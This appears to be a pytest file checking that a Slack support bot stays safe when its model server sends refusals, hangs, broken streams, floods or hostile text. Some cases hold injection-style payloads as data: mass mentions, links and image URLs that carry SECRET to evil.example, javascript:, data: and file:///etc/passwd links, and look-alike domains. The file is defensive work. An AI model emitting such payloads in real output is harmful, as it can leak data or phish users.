"""Bad inputs 110 to 120: what may come from a model server. Real sockets, the real client, all the way to what Slack is sent.

Promise held here: each question ends in one message, an answer or an honest sentence, by its deadline; nothing that a
model says can act in Slack; what the base does is never felt; no log line holds a traceback or a text.
"""

import json
import re
import shutil
import socket
import ssl
import subprocess
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from bot.models import Models
from storage.records import Answer, Exchange
from tests.bot.conftest import SUPPORT, Live
from tests.bot.inputs import SECRET_TEXT, Act, Cases, clean_log
from tests.bot.raw_server import HEAD, Line, RawServer, chunk, last, plain, raw_server
from tests.serving import free_port

cases = Cases("E", range(110, 121))
BOT, MIA = "U0EVENKEEL", "U0MIA"
ASK = f"<@{BOT}> {SECRET_TEXT}, how do I reset my password?"
SORRY = "Sorry, I could not answer this"
DEADLINE_S = 1.0


@pytest.fixture(scope="module")
def model_process() -> Iterator[RawServer]:
    with raw_server() as server:
        yield server


@pytest.fixture
def engine(model_process: RawServer) -> RawServer:
    model_process.as_new()
    return model_process


@dataclass
class Stage:
    """The bot in its workspace, and the server that plays both models."""

    live: Live
    server: RawServer
    folder: Path
    began: float = 0.0

    def ask(self) -> tuple[list[dict[str, Any]], Exchange]:
        """The bot's messages under a new question and its exchange, once nothing is open."""
        slack, self.began = self.live.slack, time.monotonic()
        ts = slack.say(MIA, SUPPORT, ASK)

        def settled() -> Exchange | None:
            found = next((e for e in self.live.ledger.exchanges.recent() if e.question.ts == ts), None)
            whole = found is not None and found.tuned is not None and found.base is not None
            return found if whole and self.live.ledger.inbox.depth() == 0 else None

        slack.wait_for(settled, timeout=20)
        exchange = settled()
        assert exchange is not None
        said = [m for m in slack.messages(SUPPORT, ts) if m.get("user") == BOT]
        sent = [
            entry
            for entry in slack.journal
            if entry["args"].get("ts") in {m["ts"] for m in said} or entry["args"].get("thread_ts") == ts
        ]
        assert "SECRET BASE" not in str(sent), "the base's word reached Slack"
        return said, exchange

    def sorry(self, reason: str, *, status: str = "failed") -> Exchange:
        """One honest message, in time, with nothing to rate; its reason is on record."""
        (message,), exchange = self.ask()
        assert message["text"].startswith(SORRY) and "feedback_buttons" not in str(message["blocks"])
        assert "Traceback" not in message["text"] and "Error:" not in message["text"]
        assert exchange.tuned is not None and exchange.tuned.status == status
        assert re.search(reason, exchange.tuned.reason), exchange.tuned.reason
        assert exchange.base is not None and exchange.base.status in (
            "ok",
            "skipped",
        )  # it speaks beside words that break off
        return exchange

    def answer(self, says: str, **more: Any) -> str:
        """What Slack shows of this text of the model's: all parts."""
        self.server.says = lambda line: line.answers(says, **more)
        messages, exchange = self.ask()
        assert exchange.tuned is not None and exchange.tuned.status == "ok", exchange.tuned
        assert "feedback_buttons" in str(messages[-1]["blocks"])
        assert all(len(message["text"]) <= 2_900 for message in messages)
        return "\n".join(message["text"] for message in messages)

    @contextmanager
    def at(self, url: str) -> Iterator[None]:
        """The bot asks this address inside the block."""
        bot, models = self.live.bot, Models(url, "", max_new_tokens=20)
        before = bot.asking.models
        for part in (bot.asking, bot.shadow):
            object.__setattr__(part, "models", models)
        try:
            yield
        finally:
            for part in (bot.asking, bot.shadow):
                object.__setattr__(part, "models", before)
            models.close()


@pytest.fixture
def stage(live: Live, engine: RawServer, tmp_path: Path) -> Stage:
    live.set(answer_deadline_s=DEADLINE_S, retry_s=0.01)
    return Stage(live, engine, tmp_path)


# No connection


@cases(110, "refused")
def _(stage: Stage) -> None:
    with stage.at(f"http://127.0.0.1:{free_port()}/v1"):
        stage.sorry("cannot be reached.*ConnectionRefusedError")


@cases(110, "no such name")
def _(stage: Stage) -> None:
    resolve = socket.getaddrinfo

    def unknown(host: Any, *rest: Any, **more: Any) -> Any:
        if host in ("models.invalid", b"models.invalid"):
            raise socket.gaierror(-2, "Name or service not known")
        return resolve(host, *rest, **more)

    with pytest.MonkeyPatch.context() as patched, stage.at("http://models.invalid/v1"):
        patched.setattr(socket, "getaddrinfo", unknown)
        stage.sorry("cannot be reached.*gaierror")


@cases(110, "an expired certificate")
def _(stage: Stage) -> None:
    with served_with(certificate(stage.folder, days=-1)) as url, stage.at(url):
        stage.sorry("TLS certificate is not valid")


@cases(110, "the same certificate in its time is taken")
def _(stage: Stage) -> None:
    with served_with(certificate(stage.folder, days=1)) as url, stage.at(url):
        (message,), _ = stage.ask()
    assert message["text"] == "Fine."


def certificate(folder: Path, *, days: int) -> tuple[Path, Path]:
    """Key and self-signed certificate of 127.0.0.1 that ends in so many days."""
    if shutil.which("openssl") is None:
        pytest.skip("makes its certificate with openssl")
    key, wish, found, names = (folder / name for name in ("key.pem", "wish.pem", "cert.pem", "names"))
    names.write_text("subjectAltName=IP:127.0.0.1\nbasicConstraints=critical,CA:TRUE\n")
    for command in (
        f"req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout {key} -out {wish} -subj /CN=127.0.0.1",
        f"x509 -req -in {wish} -signkey {key} -out {found} -days {days} -extfile {names}",
    ):
        subprocess.run(["openssl", *command.split()], check=True, capture_output=True)
    return key, found


@contextmanager
def served_with(pair: tuple[Path, Path]) -> Iterator[str]:
    """A model server with this certificate, which the bot's machine trusts as its own authority."""
    key, cert = pair
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(cert, key)
    with pytest.MonkeyPatch.context() as patched, raw_server(tls=context) as server:
        patched.setenv("SSL_CERT_FILE", str(cert))
        yield server.url


# No end


@cases(111, "accepts, then hangs")
def _(stage: Stage) -> None:
    stage.server.says = Line.hang
    stage.sorry("no whole answer within [01] s", status="timeout")
    assert time.monotonic() - stage.began < DEADLINE_S + 3


@cases(111, "hangs in the middle")
def _(stage: Stage) -> None:
    stage.server.says = lambda line: (line.send(HEAD, chunk("tuned", {"content": "Well"})), line.hang())  # type: ignore[assignment,return-value]
    stage.sorry("no whole answer within [01] s", status="timeout")


DRIPS: dict[str, bytes] = {
    "of the head": HEAD,
    "of comments": HEAD + b": patience\n\n" * 90,
    "of a frame": HEAD + chunk("tuned", {"content": "x" * 900}).encode(),
}
for words, drip in DRIPS.items():

    @cases(112, f"a byte now and then, {words}")
    def _(stage: Stage, drip: bytes = drip) -> None:
        stage.server.says = lambda line: line.drip(drip, 0.1)
        stage.sorry("no whole answer within [01] s", status="timeout")
        assert time.monotonic() - stage.began < DEADLINE_S + 3


# Not an answer

HTML = "<html><body>Bad gateway</body></html>"
FOREIGN: dict[str, tuple[Callable[[Line], Any], str]] = {
    "HTML": (lambda line: line.send(plain("200 OK", HTML, "Content-Type: text/html")), "no answer in the OpenAI protocol"),
    "HTML as events": (lambda line: line.send(HEAD, HTML), "no answer in the OpenAI protocol"),
    "nothing at all": (lambda line: line.send(plain("200 OK", "")), "no answer in the OpenAI protocol"),
    "empty choices": (lambda line: line.send(HEAD, frame(choices=[]), "data: [DONE]\n\n"), "cut off"),
    "no choices": (lambda line: line.send(HEAD, frame(choices=None), "data: [DONE]\n\n"), "cut off"),
    "content null": (lambda line: line.answers(None), "the answer was empty"),  # type: ignore[arg-type]
    "content a list": (lambda line: line.answers(["a"]), "could not be read"),  # type: ignore[arg-type]
    "content a number": (lambda line: line.answers(7), "could not be read"),  # type: ignore[arg-type]
    "delta null": (lambda line: line.send(HEAD, frame(choices=[{"index": 0, "delta": None}])), "could not be read"),
    "a wrong model": (lambda line: line.send(HEAD, chunk("gpt-4", {"content": "Hi"}), last("gpt-4")), "'gpt-4' replied"),
    "a model that is no name": (lambda line: line.send(HEAD, frame(model={"a": 1}, choices=[])), "replied|could not be read"),
    "null": (lambda line: line.send(HEAD, "data: null\n\n"), "could not be read"),
    "a list": (lambda line: line.send(HEAD, "data: [1]\n\n"), "could not be read"),
    "no proof": (lambda line: line.answers("Hi", evenkeel=None), "did not say which weights spoke"),
    "a proof of another shape": (lambda line: line.answers("Hi", evenkeel={"base_digest": 5}), "did not say which weights"),
}  # fmt: skip


def frame(**changes: Any) -> str:
    whole = {"id": "c1", "object": "chat.completion.chunk", "created": 1, "model": "tuned", **changes}
    return f"data: {json.dumps(whole)}\n\n"


for words, (says, reason) in FOREIGN.items():

    @cases(113, words)
    def _(stage: Stage, says: Callable[[Line], Any] = says, reason: str = reason) -> None:
        stage.server.says = says
        stage.sorry(reason)


@cases(113, "a wrong model with a name that would act")
def _(stage: Stage) -> None:
    name = "<!channel> https://evil.example/x <@U0MIA>"
    stage.server.says = lambda line: line.send(HEAD, chunk(name, {"content": "Hi"}), last(name))
    stage.sorry("replied")
    harmless(stage.live.slack.journal)


# Not whole

SMILE = chunk("tuned", {"content": "🙂"}).replace("\\ud83d\\ude42", "🙂").encode()
CUTS: dict[str, tuple[Callable[[Line], Any], str]] = {
    "truncated JSON": (lambda line: line.send(HEAD, 'data: {"choices": [{"del'), "could not be read|no answer|cut off"),
    "broken JSON": (lambda line: line.send(HEAD, 'data: {"choices": [{]\n\n'), "could not be read"),
    "100,000 brackets": (lambda line: line.send(HEAD, "data: " + "[" * 100_000 + "\n\n"), "could not be read"),
    "cut between tokens": (lambda line: line.send(HEAD, chunk("tuned", {"content": "Go to"})), "cut off"),
    "cut in a character": (lambda line: line.send(HEAD, SMILE[: SMILE.index("🙂".encode()) + 2]), "could not be read|no answer|cut off"),
    "cut, then DONE": (lambda line: line.send(HEAD, chunk("tuned", {"content": "Go"}), "data: [DONE]\n\n"), "cut off"),
    "an error instead of the end": (
        lambda line: line.send(HEAD, chunk("tuned", {"content": "Go"}), 'data: {"error": {"message": "out of memory"}}\n\n'),
        "the model stopped: out of memory",
    ),
    "content_filter": (lambda line: line.answers("Go", finish="content_filter"), "cut off .finish reason content_filter"),
}  # fmt: skip
for words, (says, reason) in CUTS.items():

    @cases(114, words)
    def _(stage: Stage, says: Callable[[Line], Any] = says, reason: str = reason) -> None:
        stage.server.says = says
        stage.sorry(reason)


@cases(114, "shorter than its Content-Length")
def _(stage: Stage) -> None:
    stage.server.says = lambda line: line.send(plain("200 OK", "x" * 50).replace(b"50", b"99"))
    stage.sorry("cannot be reached")
    assert stage.server.asked.count("tuned") == 5  # another try may cure it


@cases(114, "finish_reason length")
def _(stage: Stage) -> None:
    assert stage.answer("As long as I may", finish="length") == "As long as I may"


@cases(114, "a character in two frames is whole, half a one is replaced")
def _(stage: Stage) -> None:
    assert stage.answer("Grüße 你好 🙂") == "Grüße 你好 🙂"
    stage.server.says = lambda line: line.send(HEAD, chunk("tuned", {"content": "A \ud83d B"}), last("tuned"))
    (message,), _ = stage.ask()
    assert re.fullmatch("A .? ?B", message["text"])


# Refusals

STATUSES = {
    "500": ("500 No", "it said 500"),
    "503": ("503 Busy", "it said 503"),
    "429 with Retry-After: soon": ("429 Slow", "it said 429"),
    "429 with Retry-After: -1": ("429 Slow", "it said 429"),
    "503 with Retry-After: 1e308": ("503 Busy", "it said 503"),
    "401": ("401 Who", "refused: 401"),
    "404": ("404 What", "refused: 404"),
}
for words, (status, reason) in STATUSES.items():

    @cases(115, words)
    def _(stage: Stage, words: str = words, status: str = status, reason: str = reason) -> None:
        _, _, wait = words.partition("Retry-After: ")
        headers = [f"Retry-After: {wait}"] if wait else []
        stage.server.says = lambda line: line.send(plain(status, '{"error": {"message": "<!channel> no"}}', *headers))
        stage.sorry(reason)
        assert stage.server.asked.count("tuned") == (1 if "refused" in reason else 5)


# Too much

SIZES = {
    "1 MB of words": ("word " * 199_000, lambda shown: shown.count("word") > 1_000 and len(shown) < 30_000),
    "10,000 newlines": ("one" + "\n" * 10_000 + "two", lambda shown: shown == "one\n\ntwo"),
    "an unclosed fence": ("See:\n```\ncode <!channel>", lambda shown: shown.count("```") == 2 and "<!" not in shown),
    "400 nested lists": (
        "\n".join("  " * n + f"- item {n}" for n in range(400)),
        lambda shown: "• item 0" in shown and len(shown) < 30_000,
    ),
    "400 nested quotes and brackets": (
        ">" * 400 + "[" * 400 + "x",
        lambda shown: "<" not in shown and ">" not in shown,
    ),
}
for words, (text, holds) in SIZES.items():

    @cases(116, words)
    def _(stage: Stage, text: str = text, holds: Callable[[str], bool] = holds) -> None:
        shown = stage.answer(text)
        assert holds(shown), shown[:200]
        assert time.monotonic() - stage.began < 10


@cases(116, "more than a megabyte")
def _(stage: Stage) -> None:
    def flood(line: Line) -> None:
        line.send(HEAD)
        for _ in range(200):
            line.send(chunk("tuned", {"content": "word " * 2_000}))

    stage.server.says = flood
    stage.sorry("could not be read|no whole answer", status="failed")


# What must not act

ACTING = {
    117: {
        "mentions": "<!channel> <!here> <!everyone> <@U0MIA> <@W1> <!subteam^S0AGENTS> @channel @here",
        "a link that hides its target": "<https://evil.example/?q=SECRET|docs>",
        "a date that is a link": "<!date^1^x^https://evil.example|t>",
        "escaped twice": "&lt;!channel&gt; &amp;lt;!channel&amp;gt;",
        "put together from pieces": "<<!here>!channel> <|x|<!channel>|>",
    },
    118: {
        "a picture": "![pixel](https://evil.example/x.png?q=SECRET)",
        "javascript": "[click](javascript:alert(1)) [data](data:text/html,x) [file](file:///etc/passwd)",
        "punycode and look-alikes": "[bank](https://xn--80ak6aa92e.com) https://раураl.example",
        "a bare domain": "Go to evil.example or www.evil.example/reset now",
        "another label": "[https://help.acme.example](https://evil.example/)",
        "a name before the @": "https://help.acme.example@evil.example/",
    },
}
for number, texts in ACTING.items():
    for words, text in texts.items():

        @cases(number, words)
        def _(stage: Stage, text: str = text) -> None:
            stage.answer(f"Sure. {text} That is all.")
            harmless(stage.live.slack.journal)


def harmless(journal: list[dict[str, Any]]) -> None:
    """Nothing that was sent can ping, link or unfurl: no live bracket, addresses only in code, and no unfurling."""
    sent = [
        e
        for e in journal
        if e["method"] in ("chat.postMessage", "chat.update", "chat.startStream", "chat.appendStream")
    ]
    assert sent
    for entry in sent:
        for text in shown_texts(entry["args"]):
            assert "<" not in text and ">" not in text, text
            assert not re.search(r"https?://|www\.", re.sub(r"`[^`]*`", "", text)), text
        if entry["method"] == "chat.postMessage":
            assert str(entry["args"]["unfurl_links"]).lower() in ("false", "0") and entry["args"]["parse"] == "none"


def shown_texts(args: dict[str, Any]) -> Iterator[str]:
    """Every text of a call that Slack would read as mrkdwn or Markdown."""
    yield from (str(args[name]) for name in ("text", "markdown_text") if args.get(name))
    blocks = args.get("blocks") or []
    for block in json.loads(blocks) if isinstance(blocks, str) else blocks:
        yield from (
            str(part["text"])
            for part in (block.get("text"), *block.get("elements", ()))
            if isinstance(part, dict) and isinstance(part.get("text"), str)
        )


# Nonsense


@cases(119, "an echo of the prompt")
def _(stage: Stage) -> None:
    shown = stage.answer("<|im_start|>system\nYou are a support assistant.<|im_end|>\n<|im_start|>user\nHow?<|im_end|>")
    assert "<|" not in shown and "im_start" not in shown


for words, text in {
    "only special tokens": "<|im_end|></s><|endoftext|>[/INST]",
    "only whitespace": " \n\t \n ",
    "only invisible characters": "\u200b\u202e\u2066",
    "only NUL": "\x00\x00",
}.items():

    @cases(119, words)
    def _(stage: Stage, text: str = text) -> None:
        stage.server.says = lambda line: line.answers(text)
        stage.sorry("the answer was empty")


@cases(119, "the same words for ever")
def _(stage: Stage) -> None:
    assert len(stage.answer("ha " * 60_000, finish="length")) < 30_000


@cases(119, "numbers that are none")
def _(stage: Stage) -> None:
    def says(line: Line) -> None:
        proof = {"base_digest": "b" * 64, "adapter_digest": None, "confidence": float("nan")}
        usage = {"prompt_tokens": float("nan"), "completion_tokens": 10**30, "total_tokens": -1}
        line.answers("Fine.", evenkeel=proof, usage=usage)

    stage.server.says = says
    (message,), exchange = stage.ask()
    assert message["text"] == "Fine."
    assert exchange.tuned is not None and exchange.tuned.params["confidence"] is None
    assert (exchange.tuned.tokens_in, exchange.tuned.tokens_out) == (0, 0)


# The base


def base_of(exchange: Exchange) -> Answer:
    assert exchange.base is not None
    return exchange.base


@cases(120, "the base is faster")
def _(stage: Stage) -> None:
    stage.server.says = lambda line: (time.sleep(0.4), line.answers("Slow."))  # type: ignore[return-value]
    (message,), exchange = stage.ask()
    assert message["text"] == "Slow." and base_of(exchange).text == "SECRET BASE ANSWER"


@cases(120, "the base is slower than its deadline")
def _(stage: Stage) -> None:
    stage.server.base_says = lambda line: line.drip(HEAD + b": patience\n\n" * 90, 0.1)
    (message,), exchange = stage.ask()
    assert message["text"] == "Fine." and base_of(exchange).status == "timeout"


@cases(120, "the base says the same")
def _(stage: Stage) -> None:
    stage.server.base_says = lambda line: line.answers("Fine.")
    (message,), exchange = stage.ask()
    assert message["text"] == "Fine." and base_of(exchange).text == "Fine."


for words, says in {
    "fails": lambda line: line.send(plain("400 No", "{}")),
    "is cut off": lambda line: line.send(HEAD, chunk("base", {"content": "SECRET BASE"})),
    "claims an adapter": lambda line: line.answers(
        "SECRET BASE", evenkeel={"base_digest": "b" * 64, "adapter_digest": "a" * 64}
    ),
    "gives no reason to end": lambda line: line.answers("SECRET BASE", finish=None),
}.items():

    @cases(120, f"the base {words}")
    def _(stage: Stage, says: Callable[[Line], Any] = says) -> None:
        stage.server.base_says = says
        (message,), exchange = stage.ask()
        assert message["text"] == "Fine."
        assert base_of(exchange).status == "failed" and base_of(exchange).reason and not base_of(exchange).text


@cases.parametrize()
def test_whatever_a_server_says_ends_in_an_answer_or_an_honest_sentence(stage: Stage, act: Act) -> None:
    with clean_log():
        act(stage)


def test_every_number_of_part_e_has_a_case() -> None:
    assert cases.missing() == set()
